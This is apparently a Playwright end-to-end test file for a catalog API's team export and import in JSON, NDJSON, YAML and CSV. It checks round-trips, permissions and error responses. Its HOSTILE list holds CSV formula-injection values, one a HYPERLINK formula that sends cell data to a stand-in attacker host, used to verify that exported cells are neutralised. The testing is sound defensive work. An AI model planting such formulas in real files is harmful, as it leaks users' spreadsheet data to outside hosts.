import { expect, test, type APIRequestContext } from '@playwright/test';
import { parseAllDocuments } from 'yaml';
import { parseCsv } from './support/csv';
import {
  addMember,
  call,
  createBlueprint,
  createTeam,
  expectError,
  expectJson,
  newApiContext,
  register,
  type Session,
} from './support/api';

// GET /api/v1/teams/{team}/export over HTTP against the real server (docs/API.md "Integrations,
// ingestion, import and export"): every format parses back to the same entities; CSV cells that
// a spreadsheet would run are neutralised; the blueprints part imports back into an empty team
// through POST .../import and that team's export is byte-identical; another team's blueprint is
// 404 and a bad query 400, in the error shape; the import's own errors.

type Entity = {
  blueprint: string;
  identifier: string;
  title: string | null;
  properties: Record<string, unknown>;
  relations: Record<string, unknown>;
};
type BlueprintDoc = {
  id: string;
  title: string;
  description: string | null;
  icon: string | null;
  schema: object;
  relations: Record<string, { title: string | null; target: string; type: string; required: boolean }>;
};

let api: APIRequestContext;
let admin: Session;
let viewer: Session;
let team: string;
let otherTeam: string;

const SERVICE_SCHEMA = {
  type: 'object',
  properties: {
    tier: { type: 'integer' },
    owner: { type: 'string' },
    tags: { type: 'array', items: { type: 'string' } },
    meta: { type: 'object', properties: { region: { type: 'string' } } },
  },
};
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1,1)', '\t=1', '\r=1'];

const exportOf = (slug: string, params: string, token = admin.token) => call(api, 'GET', `/teams/${slug}/export?${params}`, { token });

async function post(slug: string, blueprint: string, body: object) {
  await expectJson(
    await call(api, 'POST', `/teams/${slug}/blueprints/${blueprint}/entities`, { token: admin.token, body }),
    201,
    `create in ${blueprint}`,
  );
}

/** A line or document of the export without its `kind`: the entity itself. */
const withoutKind = (value: Record<string, unknown>) => Object.fromEntries(Object.entries(value).filter(([k]) => k !== 'kind'));

test.beforeAll(async () => {
  api = await newApiContext();
  [admin, viewer] = await Promise.all([register(api, 'export-admin'), register(api, 'export-viewer')]);
  team = (await createTeam(api, admin.token)).slug;
  await addMember(api, admin.token, team, viewer.email, 'viewer');
  await createBlueprint(api, admin.token, team, {
    id: 'cluster',
    icon: '🖧',
    schema: { type: 'object', properties: { region: { type: 'string' } } },
  });
  await createBlueprint(api, admin.token, team, {
    id: 'service',
    title: 'Service',
    description: 'Deployables',
    schema: SERVICE_SCHEMA,
    relations: { runs_on: { title: 'Runs on', target: 'cluster', type: 'many-to-one' }, depends_on: { target: 'service' } },
  });
  await post(team, 'cluster', { identifier: 'eu-1', title: 'EU', data: { region: 'eu' } });
  await post(team, 'cluster', { identifier: 'us-1', title: null, data: {} });
  await post(team, 'service', {
    identifier: 'db',
    title: 'Database',
    data: { tier: 1, tags: ['core', 'sql'] },
    relations: { runs_on: 'eu-1' },
  });
  await post(team, 'service', {
    identifier: 'api',
    title: 'API, "public"',
    data: { tier: 2, owner: 'line one\nline two', meta: { region: 'eu' } },
    relations: { runs_on: 'us-1', depends_on: ['db'] },
  });
  for (const [i, value] of HOSTILE.entries())
    await post(team, 'service', { identifier: `evil-${i}`, title: value, data: { owner: value, tier: -i } });
  const outsider = await register(api, 'export-outsider');
  otherTeam = (await createTeam(api, outsider.token)).slug;
  await createBlueprint(api, outsider.token, otherTeam, { id: 'outsider-only' });
});

test.afterAll(async () => {
  await api?.dispose();
});

test('json, ndjson and yaml carry the same entities in (blueprint, identifier) order, as an attachment', async () => {
  const json = await exportOf(team, 'format=json&include=blueprints');
  expect(json.status(), await json.text()).toBe(200);
  expect(json.headers()['content-type']).toMatch(/^application\/json/);
  expect(json.headers()['content-disposition']).toBe(`attachment; filename="${team}-catalog.json"`);
  const doc = JSON.parse(await json.text()) as { blueprints: BlueprintDoc[]; entities: Entity[] };
  expect(doc.blueprints.map((b) => b.id)).toEqual(['cluster', 'service']);
  expect(doc.blueprints[1].relations.runs_on).toEqual({ title: 'Runs on', target: 'cluster', type: 'many-to-one', required: false });
  const keys = doc.entities.map((e) => `${e.blueprint}/${e.identifier}`);
  expect(keys.slice(0, 4)).toEqual(['cluster/eu-1', 'cluster/us-1', 'service/api', 'service/db']);
  expect(keys).toHaveLength(4 + HOSTILE.length);
  expect(doc.entities[2]).toEqual({
    blueprint: 'service',
    identifier: 'api',
    title: 'API, "public"',
    properties: { tier: 2, owner: 'line one\nline two', meta: { region: 'eu' } },
    relations: { depends_on: ['db'], runs_on: 'us-1' },
  });

  const ndjson = await exportOf(team, 'format=ndjson&include=blueprints');
  expect(ndjson.headers()['content-type']).toMatch(/^application\/x-ndjson/);
  const lines = (await ndjson.text()).split('\n');
  expect(lines.pop()).toBe('');
  const parsed = lines.map((l) => JSON.parse(l) as { kind: string } & Record<string, unknown>);
  expect(parsed.map((l) => l.kind)).toEqual(['blueprint', 'blueprint', ...doc.entities.map(() => 'entity')]);
  expect(parsed.slice(2).map(withoutKind)).toEqual(doc.entities);

  const yaml = await exportOf(team, 'format=yaml&include=blueprints');
  expect(yaml.headers()['content-type']).toMatch(/^application\/yaml/);
  const docs = parseAllDocuments(await yaml.text()).map((d) => {
    expect(d.errors).toEqual([]);
    return d.toJS() as { kind: string } & Record<string, unknown>;
  });
  expect(docs[0]).toEqual({ kind: 'baseplate/blueprints', version: 1, blueprints: doc.blueprints });
  expect(docs.slice(1).map((d) => d.kind)).toEqual(doc.entities.map(() => 'baseplate/entity'));
  expect(docs.slice(1).map(withoutKind)).toEqual(doc.entities);
});

test('the same export twice is byte-identical; a viewer may export', async () => {
  const one = await (await exportOf(team, 'format=yaml&include=blueprints')).text();
  const two = await (await exportOf(team, 'format=yaml&include=blueprints', viewer.token)).text();
  expect(two).toBe(one);
});

test('CSV of a blueprint: RFC 4180, default columns in schema order, formula cells neutralised', async () => {
  const res = await exportOf(team, 'format=csv&blueprint=service');
  expect(res.status()).toBe(200);
  expect(res.headers()['content-type']).toMatch(/^text\/csv/);
  expect(res.headers()['content-disposition']).toBe(`attachment; filename="${team}-service.csv"`);
  const rows = parseCsv(await res.text());
  expect(rows[0]).toEqual(['identifier', 'title', 'tier', 'owner', 'tags', 'meta']);
  expect(rows[1]).toEqual(['api', 'API, "public"', '2', 'line one\nline two', '', '{"region":"eu"}']);
  expect(rows[2]).toEqual(['db', 'Database', '1', '', '["core","sql"]', '']);
  const evil = rows.slice(3);
  expect(evil.map((r) => r[0])).toEqual(HOSTILE.map((_, i) => `evil-${i}`));
  for (const [i, row] of evil.entries()) {
    expect(row[1], `title ${i}`).toBe(`'${HOSTILE[i]}`);
    expect(row[3], `owner ${i}`).toBe(`'${HOSTILE[i]}`);
    expect(row[2]).toBe(i === 0 ? '0' : `'-${i}`); // a negative number is a formula start too
  }
  // No cell of the file starts with a formula character.
  expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
});

test('CSV columns and the table query: only the rows and columns of the view', async () => {
  const query = encodeURIComponent(JSON.stringify({ combinator: 'and', rules: [{ property: 'tier', operator: '>=', value: 1 }] }));
  const res = await exportOf(team, `format=csv&blueprint=service&query=${query}&columns=$title,runs_on,meta.region,$identifier`);
  expect(res.status(), await res.text()).toBe(200);
  expect(parseCsv(await res.text())).toEqual([
    ['title', 'runs_on', 'meta.region', 'identifier'],
    ['"API, ""public"""'.slice(1, -1).replace(/""/g, '"'), 'us-1', 'eu', 'api'],
    ['Database', 'eu-1', '', 'db'],
  ]);
});

const importInto = (slug: string, text: string, contentType: string, params = '', token = admin.token) =>
  call(api, 'POST', `/teams/${slug}/import${params}`, { token, headers: { 'content-type': contentType }, body: text });

for (const [format, contentType] of [
  ['yaml', 'application/yaml'],
  ['json', 'application/json'],
  ['ndjson', 'application/x-ndjson'],
] as const) {
  test(`${format}: imported into an empty team (POST .../import), whose export is byte-identical`, async () => {
    const original = await (await exportOf(team, `format=${format}&include=blueprints`)).text();
    const copy = (await createTeam(api, admin.token)).slug;
    const dry = await expectJson<{ created: number; blueprints_created: string[] }>(
      await importInto(copy, original, contentType, '?dry_run=true'),
      200,
      'dry run',
    );
    expect(dry).toMatchObject({ created: 4 + HOSTILE.length, blueprints_created: ['cluster', 'service'] });
    expect(await (await exportOf(copy, 'format=ndjson&include=blueprints')).text()).toBe(''); // nothing kept: no blueprint, no entity
    const done = await expectJson<{ created: number; failed: unknown[] }>(await importInto(copy, original, contentType), 200, 'import');
    expect(done).toMatchObject({ created: 4 + HOSTILE.length, failed: [] });
    expect(await (await exportOf(copy, `format=${format}&include=blueprints`)).text()).toBe(original);
    // Again: nothing changes, nothing is written.
    expect(await expectJson(await importInto(copy, original, contentType), 200, 'again')).toMatchObject({
      created: 0,
      unchanged: 4 + HOSTILE.length,
    });
  });
}

test('import: a CSV of one blueprint; bad files and callers get the error shape; another team is 404', async () => {
  const csv = 'identifier,title,tier\ncsv-a,From CSV,7\ncsv-b,Bad,seven\n';
  // A team of its own: the tests of this file may run in any order, and the others export `team`.
  const mine = (await createTeam(api, admin.token)).slug;
  await addMember(api, admin.token, mine, viewer.email, 'viewer');
  await createBlueprint(api, admin.token, mine, { id: 'service', schema: SERVICE_SCHEMA });
  const answer = await expectJson<{ created: number; failed: Array<{ index: number; identifier: string }> }>(
    await importInto(mine, csv, 'text/csv; charset=utf-8', '?blueprint=service'),
    200,
    'csv',
  );
  expect(answer.created).toBe(1);
  expect(answer.failed).toEqual([expect.objectContaining({ index: 1, identifier: 'csv-b' })]);
  await expectError(await importInto(mine, csv, 'text/csv'), 400, 'csv without blueprint');
  await expectError(await importInto(mine, 'x', 'text/plain'), 400, 'unknown media type');
  await expectError(await importInto(mine, '[{"a":', 'application/json'), 400, 'broken JSON');
  await expectError(await importInto(mine, 'a: *x', 'application/yaml'), 400, 'bad YAML alias');
  await expectError(await importInto(mine, `[${'"x",'.repeat(300_000)}"x"]`, 'application/json'), 413, 'over 1 MiB');
  await expectError(await importInto(mine, '[]', 'application/json', '?mode=full'), 400, 'unknown parameter');
  await expectError(await importInto(mine, csv, 'text/csv', '?blueprint=service', viewer.token), 403, 'a viewer');
  await expectError(await importInto(otherTeam, '[]', 'application/json'), 404, 'a team the caller is not in');
  await expectError(await importInto(mine, csv, 'text/csv', '?blueprint=outsider-only'), 404, "another team's blueprint");
});

test("another team's blueprint is 404; bad parameters and a bad query are 400 in the error shape", async () => {
  const res = await call(api, 'GET', `/teams/${otherTeam}/export?blueprint=outsider-only`, { token: admin.token });
  await expectError(res, 404, 'a team the caller is not in');
  // The other team has a blueprint of that name: asked for from our team, it is not found.
  await expectError(await exportOf(team, 'blueprint=outsider-only'), 404, "another team's blueprint");
  const unknownProperty = encodeURIComponent(JSON.stringify({ rules: [{ property: 'nope', operator: '=', value: 1 }] }));
  const bad = await expectError(await exportOf(team, `blueprint=service&query=${unknownProperty}`), 400, 'unknown property');
  expect(bad.error.message).toContain('nope');
  await expectError(await exportOf(team, 'blueprint=service&query=%7Bnot-json'), 400, 'query not JSON');
  await expectError(
    await exportOf(team, `blueprint=service&query=${encodeURIComponent('{"rules":[{"property":"tier","operator":"~","value":1}]}')}`),
    400,
    'bad operator',
  );
  await expectError(await exportOf(team, 'format=xml'), 400, 'unknown format');
  await expectError(await exportOf(team, 'format=csv&include=blueprints'), 400, 'csv with blueprints');
  await expectError(await exportOf(team, 'format=csv&blueprint=service&columns=$identifier,nope'), 400, 'unknown column');
  await expectError(await exportOf(team, 'query=%7B%7D'), 400, 'query without blueprint');
  await expectError(await exportOf(team, 'sort=x'), 400, 'unknown parameter');
});
